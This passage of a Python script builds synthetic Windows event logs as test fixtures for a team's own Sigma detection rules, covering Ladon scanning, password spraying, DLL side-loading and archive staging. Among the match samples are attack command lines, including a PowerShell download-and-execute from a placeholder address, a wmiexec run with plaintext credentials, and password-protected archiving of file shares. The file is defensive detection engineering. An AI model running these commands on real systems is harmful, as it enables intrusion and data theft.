"""Generates the sample events of our own Sigma rules (evtx_dump JSON
shape, fictional hosts and users, RFC 5737 addresses): for each rule file
rules/sigma/RULE.yml, samples/RULE/match.jsonl (must fire it) and
nomatch.jsonl (near misses that must not).

    python3 rules/sigma/samples/generate.py [OUT_DIR]
"""
import json, os, sys, datetime as dt
OUT=sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
SYSMON=('Microsoft-Windows-Sysmon','{5770385f-c22a-43e0-bf4c-06f5698ffbd9}','Microsoft-Windows-Sysmon/Operational')
SEC=('Microsoft-Windows-Security-Auditing','{54849625-5478-4994-a5ba-3e3b0328c30d}','Security')
PS=('Microsoft-Windows-PowerShell','{a0c1853b-5c40-4b15-8766-3cf1c58f985a}','Microsoft-Windows-PowerShell/Operational')
rec=[1000]
def T(s): return dt.datetime.strptime(s,'%Y-%m-%dT%H:%M:%S')
def ev(src,eid,computer,t,data,task=0,version=2,level=4,keywords='0x8000000000000000',uid='S-1-5-18'):
    rec[0]+=1
    prov,guid,chan=src
    ts=(t if isinstance(t,dt.datetime) else T(t))
    system={"Provider":{"#attributes":{"Name":prov,"Guid":guid}},"EventID":eid,"Version":version,"Level":level,"Task":task,"Opcode":0,"Keywords":keywords,
            "TimeCreated":{"#attributes":{"SystemTime":ts.strftime('%Y-%m-%dT%H:%M:%S.')+'%06dZ'%(rec[0]*37%1000000)}},
            "EventRecordID":rec[0],"Correlation":None,"Execution":{"#attributes":{"ProcessID":3144 if src is SYSMON else 712,"ThreadID":4012}},
            "Channel":chan,"Computer":computer,"Security":{"#attributes":{"UserID":uid}} if src is not SEC else None}
    if src is SEC: system["Keywords"]='0x8010000000000000'
    if src is SEC and eid==4771: system["Keywords"]='0x8010000000000000'
    return {"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":system,"EventData":data}}
def guid(n): return '{a3f1c2d4-%04x-6290-1b00-000000000%03d}'%(0x62a0+n%0x100, n%1000)
def utc(t): return (t if isinstance(t,dt.datetime) else T(t)).strftime('%Y-%m-%d %H:%M:%S.')+'%03d'%(rec[0]%1000)
def sysmon1(computer,t,image,cmd,parent,pcmd,user='CORP\\a.ivanov',hashes=None,orig='',desc='',pid=4242,ppid=3100,il='High',cwd='C:\\Windows\\system32\\'):
    return ev(SYSMON,1,computer,t,{"RuleName":"-","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"Image":image,"FileVersion":"-","Description":desc or "-","Product":"-","Company":"-","OriginalFileName":orig or "-",
        "CommandLine":cmd,"CurrentDirectory":cwd,"User":user,"LogonGuid":"{a3f1c2d4-6290-62a0-e703-000000000000}","LogonId":"0x3e7","TerminalSessionId":0,"IntegrityLevel":il,
        "Hashes":hashes or "SHA256=5B1F8A0C3E9D4A7F2C6B1E0D9F8A7C6B5E4D3C2B1A0F9E8D7C6B5A4F3E2D1C0B,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744","ParentProcessGuid":guid(ppid),"ParentProcessId":ppid,
        "ParentImage":parent,"ParentCommandLine":pcmd,"ParentUser":"NT AUTHORITY\\SYSTEM"},task=1,version=5)
def sysmon7(computer,t,image,loaded,signed='false',sig='-',status='Unavailable',pid=5120,orig='-',user='CORP\\a.ivanov'):
    return ev(SYSMON,7,computer,t,{"RuleName":"-","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"Image":image,"ImageLoaded":loaded,"FileVersion":"-","Description":"-","Product":"-","Company":"-",
        "OriginalFileName":orig,"Hashes":"SHA256=9C2E7D1B0A3F4E5D6C7B8A9F0E1D2C3B4A5F6E7D8C9B0A1F2E3D4C5B6A7F8E9D,IMPHASH=2E3B5C7D9F1A3C5E7B9D1F3A5C7E9B1D","Signed":signed,"Signature":sig,"SignatureStatus":status,"User":user},task=7,version=3)
def sysmon11(computer,t,image,target,pid=6100,user='CORP\\a.ivanov'):
    return ev(SYSMON,11,computer,t,{"RuleName":"-","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"Image":image,"TargetFilename":target,"CreationUtcTime":utc(t),"User":user},task=11,version=2)
def sysmon13(computer,t,image,target,details,pid=6200,user='NT AUTHORITY\\SYSTEM'):
    return ev(SYSMON,13,computer,t,{"RuleName":"-","EventType":"SetValue","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"Image":image,"TargetObject":target,"Details":details,"User":user},task=13,version=2)
def sec4625(computer,t,user,ip,ws='-',domain='CORP',port='49832',ltype=3,status='0xc000006d',sub='0xc000006a'):
    return ev(SEC,4625,computer,t,{"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-","SubjectLogonId":"0x0","TargetUserSid":"S-1-0-0","TargetUserName":user,"TargetDomainName":domain,
        "Status":status,"FailureReason":"%%2313","SubStatus":sub,"LogonType":ltype,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":ws,"TransmittedServices":"-",
        "LmPackageName":"-","KeyLength":0,"ProcessId":"0x0","ProcessName":"-","IpAddress":ip,"IpPort":port},task=12544,version=0,keywords='0x8010000000000000')
def sec4771(computer,t,user,ip,status='0x18',n=0):
    return ev(SEC,4771,computer,t,{"TargetUserName":user,"TargetSid":"S-1-5-21-3623811015-3361044348-30300820-%d"%(1100+n),"ServiceName":"krbtgt/CORP.LOCAL","TicketOptions":"0x40810010","Status":status,
        "PreAuthType":"2","IpAddress":ip,"IpPort":str(50100+n),"CertIssuerName":"","CertSerialNumber":"","CertThumbprint":""},task=14339,version=0,keywords='0x8010000000000000')
def ps4104(computer,t,text,path=''):
    return ev(PS,4104,computer,t,{"MessageNumber":1,"MessageTotal":1,"ScriptBlockText":text,"ScriptBlockId":"7c1e2b4a-9d3f-4e6a-8b2c-1f0e9d8c7b6a","Path":path},task=2,version=1,level=5,keywords='0x0',uid='S-1-5-21-3623811015-3361044348-30300820-1104')
def write(stem,kind,events):
    d=os.path.join(OUT,stem); os.makedirs(d,exist_ok=True)
    events=sorted(events,key=lambda e:e["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"])
    with open(os.path.join(d,kind+'.jsonl'),'w') as f:
        for e in events: f.write(json.dumps(e,ensure_ascii=False,separators=(',',':'))+'\n')
def add(t,minutes=0,seconds=0): return T(t)+dt.timedelta(minutes=minutes,seconds=seconds)

EQ='C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE'
WW='C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
# 1 EQNEDT32
s='file_event_win_eqnedt32_drop_8t_or_executable'
write(s,'match',[
  sysmon11('ws01.corp.local','2022-06-01T10:00:00',EQ,'C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\8.t'),
  sysmon11('ws01.corp.local','2022-06-01T10:00:01',EQ,'C:\\Users\\a.ivanov\\AppData\\Roaming\\Microsoft\\Word\\STARTUP\\winlog.wll'),
  sysmon11('ws02.corp.local','2022-06-01T11:30:00',EQ,'C:\\Users\\p.sidorov\\AppData\\Local\\Temp\\RasTls.dll'),
  sysmon11('ws03.corp.local','2022-06-02T08:12:09',EQ,'C:\\ProgramData\\Intel\\Intel(R) Processor Graphics\\IntelGraphicsController.exe'),
])
write(s,'nomatch',[
  sysmon11('ws01.corp.local','2022-06-01T10:00:00',EQ,'C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\~DF3A1B2C4D5E6F70.TMP'),
  sysmon11('ws01.corp.local','2022-06-01T10:00:02',EQ,'C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\8.txt'),
  sysmon11('ws02.corp.local','2022-06-01T10:05:00',WW,'C:\\Users\\p.sidorov\\AppData\\Local\\Temp\\8.t'),
  sysmon11('ws02.corp.local','2022-06-01T10:06:00','C:\\Windows\\System32\\notepad.exe','C:\\Users\\p.sidorov\\Desktop\\setup.exe'),
])
# PortDoor marker
s='file_event_win_portdoor_temp_marker'
write(s,'match',[
  sysmon11('ws04.corp.local','2022-06-03T09:41:17','C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\winlog.exe','C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\58097616.tmp'),
  sysmon11('ws05.corp.local','2022-06-03T09:55:02',WW,'C:\\Users\\m.smirnova\\AppData\\Local\\Temp\\58097616.tmp'),
])
write(s,'nomatch',[
  sysmon11('ws04.corp.local','2022-06-03T09:41:17',WW,'C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\58097617.tmp'),
  sysmon11('ws04.corp.local','2022-06-03T09:42:00',WW,'C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\158097616.tmp'),
  sysmon11('ws05.corp.local','2022-06-03T09:55:02','C:\\Windows\\explorer.exe','C:\\Users\\m.smirnova\\Documents\\58097616.tmp'),
])
# 2 WLL correlation
s='correlation_win_word_startup_wll_drop_then_load'
ST='C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Word\\STARTUP\\%s'
write(s,'match',[
  sysmon11('ws01.corp.local','2022-06-01T10:00:01','C:\\Users\\a.ivanov\\AppData\\Local\\Temp\\8.exe',ST%('a.ivanov','winlog.wll')),
  sysmon7('ws01.corp.local','2022-06-01T10:20:45',WW,ST%('a.ivanov','winlog.wll')),
])
write(s,'nomatch',[
  # benign add-in outside STARTUP, installed then loaded
  sysmon11('ws07.corp.local','2022-06-01T09:00:00','C:\\Users\\b.kuznetsov\\Downloads\\MathType-win-en-7.4.10.exe','C:\\Program Files (x86)\\MathType\\Office Support\\64\\MathPage.wll'),
  sysmon7('ws07.corp.local','2022-06-01T09:10:00',WW,'C:\\Program Files (x86)\\MathType\\Office Support\\64\\MathPage.wll'),
  # loaded before it was dropped (wrong order)
  sysmon7('ws04.corp.local','2022-06-01T09:30:00',WW,ST%('d.popov','refmgr.wll')),
  sysmon11('ws04.corp.local','2022-06-01T10:00:00','C:\\Windows\\System32\\msiexec.exe',ST%('d.popov','refmgr.wll')),
  # dropped on one computer, loaded on another
  sysmon11('ws05.corp.local','2022-06-01T11:00:00','C:\\Users\\e.volkov\\AppData\\Local\\Temp\\8.exe',ST%('e.volkov','winlog.wll')),
  sysmon7('ws06.corp.local','2022-06-01T11:05:00',WW,ST%('f.sokolov','winlog.wll')),
  # loaded more than 24 h after the drop
  sysmon11('ws03.corp.local','2022-06-01T08:00:00','C:\\Windows\\System32\\msiexec.exe',ST%('c.orlov','legacy.wll')),
  sysmon7('ws03.corp.local','2022-06-02T09:30:00',WW,ST%('c.orlov','legacy.wll')),
])
# 3 Ladon
s='proc_creation_win_hktl_ladon'
CMD='C:\\Windows\\System32\\cmd.exe'
write(s,'match',[
  sysmon1('ws11.corp.local','2022-06-05T13:00:00','C:\\ProgramData\\Ladon.exe','Ladon.exe 192.0.2.0/24 OnlinePC',CMD,'cmd.exe',orig='Ladon.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:05:00','C:\\ProgramData\\svhost.exe','svhost.exe 198.51.100.0/24 MS17010',CMD,'cmd.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:09:00','C:\\ProgramData\\tools\\l40.exe','l40.exe 192.0.2.10/c SmbScan',CMD,'cmd.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:12:00','C:\\ProgramData\\Ladon40.exe','Ladon40.exe wmiexec 192.0.2.15 svc_admin Passw0rd1 whoami',CMD,'cmd.exe'),
  sysmon1('ws12.corp.local','2022-06-05T13:55:00','C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe','powershell -exec bypass -c "Import-Module .\\Ladon.ps1; Ladon 192.0.2.0/24 OsScan"',CMD,'cmd.exe'),
  sysmon1('ws12.corp.local','2022-06-05T13:58:00','C:\\ProgramData\\upd.exe','upd.exe noping 203.0.113.0/24 SmbHashScan',CMD,'cmd.exe'),
  sysmon1('ws12.corp.local','2022-06-05T14:00:00','C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          'powershell -nop -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/Ladon.ps1\'); Invoke-Ladon -Command \'203.0.113.0/24 OsScan\'"',CMD,'cmd.exe'),
])
write(s,'nomatch',[
  sysmon1('ws11.corp.local','2022-06-05T13:00:00','C:\\Program Files (x86)\\Nmap\\nmap.exe','nmap.exe -sn 192.0.2.0/24',CMD,'cmd.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:01:00','C:\\Tools\\netscan\\netscan.exe','netscan.exe 192.0.2.0/24 PortScan',CMD,'cmd.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:02:00',CMD,'cmd.exe /c echo OsScan finished > C:\\Temp\\inv.log','C:\\Windows\\System32\\svchost.exe','svchost.exe -k netsvcs'),
  sysmon1('ws11.corp.local','2022-06-05T13:03:00','C:\\Windows\\System32\\ROUTE.EXE','route print 192.0.2.0/24',CMD,'cmd.exe'),
  sysmon1('ws11.corp.local','2022-06-05T13:04:00','C:\\Windows\\System32\\net.exe','net view \\\\fs01.corp.local',CMD,'cmd.exe'),
])
# Invoke-Ladon 4104
s='posh_ps_hktl_ladon_loader'
write(s,'match',[
  ps4104('ws12.corp.local','2022-06-05T13:55:01',"#PowerLadon\nfunction Ladon\n{\n<#\n.SYNOPSIS\n\nThis script leverages Ladon and Reflection.Assembly to reflectively load Ladon completely in memory.\n#>\nParam($Target = 'help', $Module = 'OnlinePC')\n$bytes = [IO.Compression.GzipStream]::new([IO.MemoryStream][Convert]::FromBase64String($blob), [IO.Compression.CompressionMode]::Decompress)\n$asm = [Reflection.Assembly]::Load($raw)\n}", path='C:\\Users\\a.ivanov\\Ladon.ps1'),
  ps4104('ws12.corp.local','2022-06-05T14:00:02',"function Invoke-Ladon\n{\n    param([string]$Command)\n    $bytes = [Convert]::FromBase64String($LadonBase64)\n    $asm = [Reflection.Assembly]::Load($bytes)\n    $asm.EntryPoint.Invoke($null, (, $Command.Split(' ')))\n}"),
])
write(s,'nomatch',[
  ps4104('ws12.corp.local','2022-06-05T14:00:02',"Invoke-Command -ComputerName fs01.corp.local -ScriptBlock { Get-Service -Name LanmanServer }"),
  ps4104('ws12.corp.local','2022-06-05T14:00:30',"function Get-LadonReport { param($Path) Get-Content $Path | Select-String 'MS17010' }"),
  ps4104('ws12.corp.local','2022-06-05T14:01:00',"Get-ADComputer -Filter * -SearchBase 'OU=Servers,DC=corp,DC=local' | Select-Object Name, IPv4Address"),
])
# 4a failed logons, many accounts
s='correlation_win_security_failed_logon_many_accounts'
users=['a.ivanov','p.sidorov','m.smirnova','b.kuznetsov','c.orlov','d.popov','e.volkov','f.sokolov','g.lebedev','h.kozlov','i.novikova','j.morozov']
write(s,'match',[sec4625('dc01.corp.local',add('2022-06-06T02:10:00',seconds=9*i),u,'192.0.2.50',ws='WS11',port=str(50000+i)) for i,u in enumerate(users)])
write(s,'nomatch',
  [sec4625('fs01.corp.local','2022-06-06T08:01:00','a.ivanov','198.51.100.7',ws='WS01'), sec4625('fs01.corp.local','2022-06-06T08:01:20','a.ivanov','198.51.100.7',ws='WS01')]
  +[sec4625('dc01.corp.local',add('2022-06-06T09:00:00',minutes=11*i),u,'203.0.113.9',ws='WS21') for i,u in enumerate(users)]
  +[sec4625('fs01.corp.local',add('2022-06-06T10:00:00',seconds=20*i),'svc_backup','192.0.2.77',ws='BKP01') for i in range(15)]
  +[sec4625('ws03.corp.local',add('2022-06-06T11:00:00',seconds=20*i),u,'-',ws='WS03',ltype=2,port='0') for i,u in enumerate(users)])
# 4b failed logons, many hosts
s='correlation_win_security_failed_logon_many_hosts'
hosts=['fs01','fs02','app01','app02','sql01','ws05']
write(s,'match',[sec4625(h+'.corp.local',add('2022-06-06T02:20:00',seconds=15*i),'svc_admin','192.0.2.60',ws='WS11') for i,h in enumerate(hosts)])
write(s,'nomatch',
  [sec4625(h+'.corp.local',add('2022-06-06T03:00:00',seconds=15*i),'svc_admin','198.51.100.61',ws='WS12') for i,h in enumerate(hosts[:4])]
  +[sec4625(h+'.corp.local',add('2022-06-06T04:00:00',minutes=12*i),'svc_admin','203.0.113.62',ws='WS13') for i,h in enumerate(hosts)]
  +[sec4625('fs01.corp.local',add('2022-06-06T05:00:00',seconds=10*i),'svc_admin','192.0.2.63',ws='WS14') for i in range(8)])
# 4c Kerberos pre-auth failures
s='correlation_win_security_kerberos_preauth_fail_many_accounts'
write(s,'match',[sec4771('dc01.corp.local',add('2022-06-06T02:30:00',seconds=5*i),u,'::ffff:192.0.2.70',n=i) for i,u in enumerate(users[:11])])
write(s,'nomatch',
  [sec4771('dc01.corp.local',add('2022-06-06T03:30:00',seconds=5*i),u,'::ffff:198.51.100.71',n=i) for i,u in enumerate(users[:3])]
  +[sec4771('dc01.corp.local',add('2022-06-06T04:30:00',seconds=5*i),u,'::ffff:203.0.113.72',status='0x25',n=i) for i,u in enumerate(users[:11])]
  +[sec4771('dc02.corp.local',add('2022-06-06T05:30:00',minutes=11*i),u,'::ffff:192.0.2.73',n=i) for i,u in enumerate(users[:11])])
# 5 management agent fan-out
s='correlation_win_mgmt_agent_same_binary_many_hosts'
KL='C:\\Program Files (x86)\\Kaspersky Lab\\NetworkAgent\\klnagent.exe'
CCM='C:\\Windows\\CCM\\CcmExec.exe'
ERA='C:\\Program Files\\ESET\\RemoteAdministrator\\Agent\\ERAAgent.exe'
write(s,'match',[sysmon1('ws%02d.corp.local'%(20+i),add('2022-06-07T01:00:00',seconds=40*i),'C:\\ProgramData\\Intel\\igfxupd.exe','"C:\\ProgramData\\Intel\\igfxupd.exe" -install',KL,'"%s"'%KL,user='NT AUTHORITY\\SYSTEM',il='System',pid=7000+i) for i in range(4)])
write(s,'nomatch',
  [sysmon1('ws%02d.corp.local'%(30+i),add('2022-06-07T02:00:00',seconds=30*i),'C:\\Windows\\ccmcache\\2f\\setup.exe','"C:\\Windows\\ccmcache\\2f\\setup.exe" /quiet',CCM,'C:\\Windows\\CCM\\CcmExec.exe',user='NT AUTHORITY\\SYSTEM',il='System') for i in range(2)]
  +[sysmon1('ws%02d.corp.local'%(40+i),add('2022-06-07T03:00:00',seconds=20*i),CMD,'cmd.exe /c gpupdate /force',KL,'"%s"'%KL,user='NT AUTHORITY\\SYSTEM',il='System') for i in range(5)]
  +[sysmon1('ws%02d.corp.local'%(50+i),add('2022-06-07T04:00:00',minutes=13*i),'C:\\ProgramData\\Vendor\\inventory.exe','"C:\\ProgramData\\Vendor\\inventory.exe" /scan',ERA,'"%s"'%ERA,user='NT AUTHORITY\\SYSTEM',il='System') for i in range(4)]
  +[sysmon1('ws%02d.corp.local'%(60+i),add('2022-06-07T05:00:00',seconds=20*i),'C:\\ProgramData\\Intel\\igfxupd.exe','"C:\\ProgramData\\Intel\\igfxupd.exe"','C:\\Windows\\explorer.exe','C:\\Windows\\Explorer.EXE') for i in range(5)]
  +[sysmon1('ws%02d.corp.local'%(70+i),add('2022-06-07T06:00:00',seconds=20*i),'C:\\Program Files (x86)\\Kaspersky Lab\\NetworkAgent\\klnagchk.exe','klnagchk.exe -sendhb',KL,'"%s"'%KL,user='NT AUTHORITY\\SYSTEM',il='System') for i in range(5)])
# 6 Cotx registry
s='registry_set_win_cotx_rat_config'
IGC='C:\\Users\\a.ivanov\\AppData\\Roaming\\Intel\\Intel(R) Processor Graphics\\IntelGraphicsController.exe'
write(s,'match',[
  sysmon13('ws01.corp.local','2022-06-01T10:25:00',IGC,'HKLM\\SOFTWARE\\Intel\\Java\\user','Binary Data'),
  sysmon13('ws02.corp.local','2022-06-01T12:25:00','C:\\Program Files (x86)\\Intel\\Intel(R) Processor Graphics\\AcroRd32.exe','HKLM\\SOFTWARE\\WOW6432Node\\Intel\\Java\\user','Binary Data'),
])
write(s,'nomatch',[
  sysmon13('ws01.corp.local','2022-06-01T10:25:00','C:\\Program Files\\Java\\jre1.8.0_331\\bin\\javaw.exe','HKLM\\SOFTWARE\\JavaSoft\\Java Runtime Environment\\CurrentVersion','1.8'),
  sysmon13('ws01.corp.local','2022-06-01T10:26:00','C:\\Windows\\System32\\igfxCUIService.exe','HKLM\\SOFTWARE\\Intel\\Display\\igfxcui\\user','DWORD (0x00000001)'),
  sysmon13('ws01.corp.local','2022-06-01T10:27:00','C:\\Program Files\\Java\\jre1.8.0_331\\bin\\javaw.exe','HKLM\\SOFTWARE\\Intel\\Java\\username','j.doe'),
])
# Cotx side-load
s='image_load_win_cotx_rastls_sideload'
write(s,'match',[
  sysmon7('ws01.corp.local','2022-06-01T10:24:59',IGC,'C:\\Users\\a.ivanov\\AppData\\Roaming\\Intel\\Intel(R) Processor Graphics\\RasTls.dll'),
  sysmon7('ws02.corp.local','2022-06-01T12:24:00','C:\\Program Files (x86)\\Intel\\Intel(R) Processor Graphics\\AcroRd32.exe','C:\\Program Files (x86)\\Intel\\Intel(R) Processor Graphics\\RasTls.dll'),
  sysmon7('ws03.corp.local','2022-06-01T12:30:00','C:\\ProgramData\\Adobe\\AcroRd32.exe','C:\\ProgramData\\Adobe\\rastls.dll'),
])
write(s,'nomatch',[
  sysmon7('ws01.corp.local','2022-06-01T10:00:00','C:\\Windows\\System32\\rasphone.exe','C:\\Windows\\System32\\rastls.dll',signed='true',sig='Microsoft Windows',status='Valid'),
  sysmon7('ws01.corp.local','2022-06-01T10:01:00','C:\\Windows\\SysWOW64\\rasdial.exe','C:\\Windows\\SysWOW64\\RasTls.dll',signed='true',sig='Microsoft Windows',status='Valid'),
  sysmon7('ws01.corp.local','2022-06-01T10:02:00',IGC,'C:\\Windows\\System32\\dxgi.dll',signed='true',sig='Microsoft Windows',status='Valid'),
])
# password archive from remote parent
s='proc_creation_win_archiver_password_remote_parent'
WMI='C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'
write(s,'match',[
  sysmon1('fs01.corp.local','2022-06-08T03:00:00','C:\\Program Files\\WinRAR\\Rar.exe','rar.exe a -hpQz7!kR2 -m5 -r C:\\ProgramData\\d1.rar \\\\fs01\\projects\\*.docx',WMI,'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',user='CORP\\adm.ivanov',orig='Command line RAR',desc='Command line RAR'),
  sysmon1('fs02.corp.local','2022-06-08T03:10:00','C:\\ProgramData\\7za.exe','7za.exe a -tzip -pInfected2022 -mem=AES256 C:\\Windows\\Temp\\a.zip D:\\Docs',"C:\\Windows\\PSEXESVC.exe",'C:\\Windows\\PSEXESVC.exe',user='CORP\\adm.ivanov',orig='7za.exe'),
  sysmon1('fs03.corp.local','2022-06-08T03:20:00','C:\\Program Files\\WinRAR\\Rar.exe','"C:\\Program Files\\WinRAR\\Rar.exe" a /hpQz7!kR2 C:\\Users\\Public\\b.rar E:\\Contracts','C:\\Windows\\System32\\svchost.exe','C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',user='CORP\\adm.ivanov'),
])
write(s,'nomatch',[
  sysmon1('ws01.corp.local','2022-06-08T09:00:00','C:\\Program Files\\WinRAR\\Rar.exe','rar.exe a -hpSecret1 C:\\Users\\a.ivanov\\Desktop\\report.rar report.docx','C:\\Windows\\explorer.exe','C:\\Windows\\Explorer.EXE',orig='Command line RAR'),
  sysmon1('fs01.corp.local','2022-06-08T09:05:00','C:\\Program Files\\WinRAR\\Rar.exe','rar.exe a -m5 D:\\Backup\\logs.rar D:\\Logs\\*.log',WMI,'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',orig='Command line RAR'),
  sysmon1('fs01.corp.local','2022-06-08T09:10:00','C:\\Program Files\\7-Zip\\7z.exe','7z.exe x -pSupplierKey D:\\Inbox\\drawings.7z -oD:\\Inbox\\drawings',WMI,'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',orig='7z.exe'),
  sysmon1('fs01.corp.local','2022-06-08T09:15:00','C:\\Windows\\System32\\tar.exe','tar.exe -a -c -f D:\\Backup\\cfg.zip D:\\Config',WMI,'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'),
])
# --- counterspy investigate: console takeover, GPO, C2 from user-writable folders, RDP, services
SYS=('Service Control Manager','{555908d1-a6d7-4695-8e1e-26931d2012f4}','System')
def sysmon3(computer,t,image,dst,port,host='-',initiated='true',pid=7012,user='CORP\\a.ivanov',src='10.10.20.31'):
    return ev(SYSMON,3,computer,t,{"RuleName":"-","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"Image":image,"User":user,"Protocol":"tcp","Initiated":initiated,"SourceIsIpv6":"false","SourceIp":src,"SourceHostname":computer,
        "SourcePort":"50412","SourcePortName":"-","DestinationIsIpv6":"false","DestinationIp":dst,"DestinationHostname":host,"DestinationPort":port,"DestinationPortName":"-"},task=3,version=5)
def sysmon22(computer,t,image,query,result,pid=7012,user='CORP\\a.ivanov'):
    return ev(SYSMON,22,computer,t,{"RuleName":"-","UtcTime":utc(t),"ProcessGuid":guid(pid),"ProcessId":pid,"QueryName":query,"QueryStatus":"0","QueryResults":result,"Image":image,"User":user},task=22,version=5)
def sec4624(computer,t,user,ip,ltype=3,ws='-',domain='CORP'):
    return ev(SEC,4624,computer,t,{"SubjectUserSid":"S-1-5-18","SubjectUserName":computer.split('.')[0].upper()+'$',"SubjectDomainName":domain,"SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-1144",
        "TargetUserName":user,"TargetDomainName":domain,"TargetLogonId":"0x6a1f30","LogonType":ltype,"LogonProcessName":"User32 " if ltype==10 else "NtLmSsp ","AuthenticationPackageName":"Negotiate" if ltype==10 else "NTLM",
        "WorkstationName":ws,"LogonGuid":"{00000000-0000-0000-0000-000000000000}","TransmittedServices":"-","LmPackageName":"-","KeyLength":0,"ProcessId":"0x2b4","ProcessName":"C:\\Windows\\System32\\svchost.exe","IpAddress":ip,"IpPort":"0",
        "ImpersonationLevel":"%%1833","RestrictedAdminMode":"%%1843","VirtualAccount":"%%1843","ElevatedToken":"%%1842"},task=12544,version=2,keywords='0x8020000000000000')
def secgroup(computer,t,eid,group,member,subject='adm.sokolov',domain='CORP'):
    return ev(SEC,eid,computer,t,{"MemberName":"CN=%s,CN=Users,DC=corp,DC=local"%member,"MemberSid":"S-1-5-21-3623811015-3361044348-30300820-1187","TargetUserName":group,"TargetDomainName":domain,
        "TargetSid":"S-1-5-21-1604528732-2893745103-811250417-1009","SubjectUserSid":"S-1-5-21-3623811015-3361044348-30300820-1144","SubjectUserName":subject,"SubjectDomainName":domain,"SubjectLogonId":"0x5f3a21","PrivilegeList":"-"},
        task=13826,version=0,keywords='0x8020000000000000')
def sec5136(computer,t,objclass,dn,attr,value,subject='adm.sokolov'):
    return ev(SEC,5136,computer,t,{"OpCorrelationID":"{6f0b2d5e-8e3c-4c1a-b0f2-1d9e7a6c5b40}","AppCorrelationID":"-","SubjectUserSid":"S-1-5-21-3623811015-3361044348-30300820-1144","SubjectUserName":subject,"SubjectDomainName":"CORP",
        "SubjectLogonId":"0x6b2e11","DSName":"corp.local","DSType":"%%14676","ObjectDN":dn,"ObjectGUID":"{c2e9f4a0-3b1d-4f6e-8a2c-5d7e9b0f1a23}","ObjectClass":objclass,"AttributeLDAPDisplayName":attr,"AttributeSyntaxOID":"2.5.5.12",
        "AttributeValue":value,"OperationType":"%%14674"},task=14081,version=0,keywords='0x8020000000000000')
def sys7045(computer,t,name,image,start='auto start'):
    return ev(SYS,7045,computer,t,{"ServiceName":name,"ImagePath":image,"ServiceType":"user mode service","StartType":start,"AccountName":"LocalSystem"},version=0,level=4,keywords='0x8080000000000000')

s='win_security_member_added_security_console_admin_group'
write(s,'match',[
  secgroup('ksc01.corp.local','2022-06-20T01:34:12',4732,'KLAdmins','svc_scan'),
  secgroup('ksc01.corp.local','2022-06-20T01:35:00',4732,'KLOperators','svc_scan'),
  secgroup('dc01.corp.local','2022-06-20T01:36:00',4728,'SMS Admins','svc_scan'),
  secgroup('dc01.corp.local','2022-06-20T01:37:00',4756,'ConfigMgr Remote Control Users','svc_scan'),
])
write(s,'nomatch',[
  secgroup('ksc01.corp.local','2022-06-20T09:00:00',4732,'Remote Desktop Users','p.sidorov',subject='adm.kuznetsov'),
  secgroup('dc01.corp.local','2022-06-20T09:01:00',4728,'Domain Users','p.sidorov',subject='adm.kuznetsov'),
  secgroup('ksc01.corp.local','2022-06-20T09:02:00',4733,'KLAdmins','m.orlova',subject='adm.kuznetsov'),
])
s='win_security_gpo_changed'
DDP='CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=corp,DC=local'
write(s,'match',[
  sec5136('dc01.corp.local','2022-06-21T02:47:20','groupPolicyContainer',DDP,'gPCMachineExtensionNames','[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B6664F-4972-11D1-A7CA-0000F87571E3}]'),
  sec5136('dc01.corp.local','2022-06-21T02:47:22','groupPolicyContainer','CN={8A1F2C3D-4B5E-4F60-9A7B-1C2D3E4F5A6B},CN=Policies,CN=System,DC=corp,DC=local','versionNumber','196611'),
])
write(s,'nomatch',[
  sec5136('dc01.corp.local','2022-06-21T09:00:00','user','CN=p.sidorov,CN=Users,DC=corp,DC=local','description','Design office'),
  sec5136('dc01.corp.local','2022-06-21T09:01:00','organizationalUnit','OU=Workstations,DC=corp,DC=local','gPLink','[LDAP://cn={8A1F2C3D-4B5E-4F60-9A7B-1C2D3E4F5A6B},cn=policies,cn=system,DC=corp,DC=local;0]'),
])
s='net_connection_win_user_writable_folder_public_ip'
IGC2='C:\\Users\\a.ivanov\\AppData\\Roaming\\Intel\\Intel(R) Processor Graphics\\IntelGraphicsController.exe'
write(s,'match',[
  sysmon3('ws01.corp.local','2022-06-15T06:21:16',IGC2,'198.51.100.23','443',host='update.example-cdn.com'),
